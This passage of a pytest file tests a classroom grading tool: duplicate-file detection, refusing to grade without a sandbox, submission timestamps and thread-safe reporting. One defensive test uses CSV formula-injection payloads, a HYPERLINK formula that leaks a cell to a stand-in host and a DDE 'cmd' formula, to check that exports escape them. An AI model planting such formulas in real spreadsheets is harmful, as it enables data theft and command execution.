        (w, t) for w in ("copycat", "honest", "mixed", "stubs", "stubs2") for t in TWO
    ]
    got = {(r["student_id"], r["assignment"]): r for r in rows}
    # copycat's file was graded as mixed's (or mixed's as copycat's), under its own name
    assert got["copycat", "vector_add"]["status"] == "fail" and got["copycat", "vector_copy"]["status"] == "missing"
    assert got["copycat", "vector_add"]["message"].replace("copycat", "mixed") == got["mixed", "vector_add"]["message"]
    assert [got["stubs2", t]["status"] for t in TWO] == ["todo", "todo"]
    assert "from 5 distinct files: 3 byte-identical copies took their verdict" in run.stdout
    assert [got["honest", t]["status"] for t in TWO] == ["pass", "pass"]
    assert all(got["honest", t]["score"] == got["honest", t]["max_score"] == "1.0" for t in TWO)
    assert [got["stubs", t]["status"] for t in TWO] == ["todo", "todo"]
    assert got["mixed", "vector_copy"]["status"] == "binary"
    assert (
        got["mixed", "vector_add"]["status"] == "fail"
        and "wrong (max abs error" in got["mixed", "vector_add"]["message"]
    )
    assert all(r["score"] == "0.0" for r in rows if r["student_id"] != "honest")
    assert {r["seed"] for r in rows} == {"11"}
    assert all(len(r["sha256"]) == 64 for r in rows if r["status"] != "missing")
    assert json.loads((tmp_path / "grades.json").read_text())[0]["student_id"] == "copycat"
    assert "| vector_add | 1/5 |" in (tmp_path / "grades.summary.md").read_text()
    assert "honest: 2/2 tasks pass" in run.stdout and f"wrote 10 rows to {out}" in run.stdout
    assert os.path.getsize(out) > 0


# --------------------------------------------------------------------------------------------------
# the sandbox, and cells a spreadsheet would run


def no_sandbox(monkeypatch):
    monkeypatch.setattr(
        roster.sandbox, "available", lambda: roster.sandbox.Availability(False, "", "bubblewrap is not installed")
    )


def test_a_room_is_not_graded_without_a_sandbox_unless_the_instructor_says_so(tmp_path, monkeypatch, capsys):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    no_sandbox(monkeypatch)
    fake = FakeGrader()
    with pytest.raises(roster.UsageError, match="bubblewrap is not installed.*--unsandboxed"):
        grade(room, tmp_path / "g.csv", fake)
    assert fake.calls == [] and not (tmp_path / "g.csv").exists()
    monkeypatch.setattr(roster, "grade_jobs", fake)
    assert cli.main(["grade", str(room), "--out", str(tmp_path / "g.csv")]) == 2
    assert "cannot grade a room safely here" in capsys.readouterr().err
    result = grade(room, tmp_path / "g.csv", fake, unsandboxed=True)
    assert fake.calls[-1]["sandboxed"] is False
    assert {r["sandboxed"] for r in read_csv(tmp_path / "g.csv")} == {"no"}
    summary = (tmp_path / "g.summary.md").read_text()
    assert "- graded WITHOUT the sandbox" in summary and "WITHOUT" in result.sandboxing


def test_rows_say_they_were_graded_in_the_sandbox(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": {}})
    fake = FakeGrader()
    grade(room, tmp_path / "g.csv", fake)
    assert fake.calls[0]["sandboxed"] is True
    rows = {(r["student_id"], r["assignment"]): r for r in read_csv(tmp_path / "g.csv")}
    assert rows["alice", "vector_add"]["sandboxed"] == "yes"
    assert rows["bob", "vector_add"]["sandboxed"] == ""  # a missing file runs nowhere
    assert "graded in the sandbox: bubblewrap (test)" in (tmp_path / "g.summary.md").read_text()


def test_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    evil = '=HYPERLINK("x.example?"&A1,"grades")'
    room = make_room(tmp_path / "room", {evil: dict(SOLUTION), "+1": dict(SOLUTION), "@me": {}, "-x": {}})
    fake = FakeGrader({(evil, "vector_add"): ("fail", "=cmd|' /C calc'!A0", [])})
    grade(room, tmp_path / "g.csv", fake)
    text = (tmp_path / "g.csv").read_text()
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(roster.FORMULA_STARTS), line
    rows = read_csv(tmp_path / "g.csv")
    assert {r["student_id"] for r in rows} == {f"'{evil}", "'+1", "'@me", "'-x"}
    assert any(r["message"].startswith("'=cmd|") for r in rows)
    summary = (tmp_path / "g.summary.md").read_text()
    for line in summary.splitlines():
        for cell in line.split("|")[1:-1]:
            assert cell.strip() in ("---", "-") or not cell.strip().startswith(roster.FORMULA_STARTS), line
    # the JSON keeps the names as they are, and --resume reads the CSV back to the same names
    assert {r["student_id"] for r in json.loads((tmp_path / "g.json").read_text())} == {evil, "+1", "@me", "-x"}
    again = FakeGrader()
    grade(room, tmp_path / "g.csv", again, resume=True)
    assert again.graded == []


def test_each_row_keeps_when_its_file_was_handed_in(tmp_path):
    """``submitted``: the file's modification time (an unpacked zip keeps the learner's), beside the
    grading time in ``timestamp``; a bad file has it too, a missing one has none."""
    room = make_room(tmp_path / "room", {"ada": {"vector_add": SOLUTION["vector_add"], "vector_copy": b""}})
    handed = 1796290200  # 2026-12-03 09:30:00 UTC
    for task in TWO:
        os.utime(room / "ada" / f"{task}.py", (handed, handed))
    make_room(room, {"bob": {}})
    result = grade(room, tmp_path / "grades.csv")
    rows = {(r["student_id"], r["assignment"]): r for r in roster.read_rows(tmp_path / "grades.csv")}
    assert rows["ada", "vector_add"]["submitted"] == rows["ada", "vector_copy"]["submitted"] == "2026-12-03T09:30:00Z"
    assert rows["ada", "vector_copy"]["status"] == "empty" and rows["bob", "vector_add"]["submitted"] == ""
    assert rows["ada", "vector_add"]["timestamp"] != rows["ada", "vector_add"]["submitted"]
    assert result.rows


def test_grade_jobs_reports_one_result_at_a_time(monkeypatch):
    """Jobs end in several threads, and on_result is called for one at a time: check --all prints each
    task's lines with print (its text and its newline are two writes: two tasks' lines once ran together
    in CI), and the room counts its bar, with no lock of their own."""
    import threading
    import time

    from course_lib import grader
    from course_lib.grader import Job
    from course_lib.grader.result import PASS, TaskResult

    monkeypatch.setattr(grader, "make_worker", lambda *a, **k: types.SimpleNamespace(on_slow=None))
    monkeypatch.setattr(grader, "remove_stale_jobs", lambda: None)  # the machine's job folders: not this test's

    def grade_task(task, *args, **kwargs):
        time.sleep(0.02)
        return TaskResult(task, PASS, "passed")

    monkeypatch.setattr(grader, "grade_task", grade_task)
    inside, most, lock = [0], [0], threading.Lock()

    def on_result(job, result):
        with lock:
            inside[0] += 1
            most[0] = max(most[0], inside[0])
        time.sleep(0.01)  # a report that takes a while, as a terminal's write does
        with lock:
            inside[0] -= 1

    jobs = [Job(f"learner{i}", "vector_add", Path(".")) for i in range(24)]
    results = grader.grade_jobs(jobs, workers=8, on_result=on_result)
    assert len(results) == 24 and all(r.passed for r in results)
    assert most[0] == 1
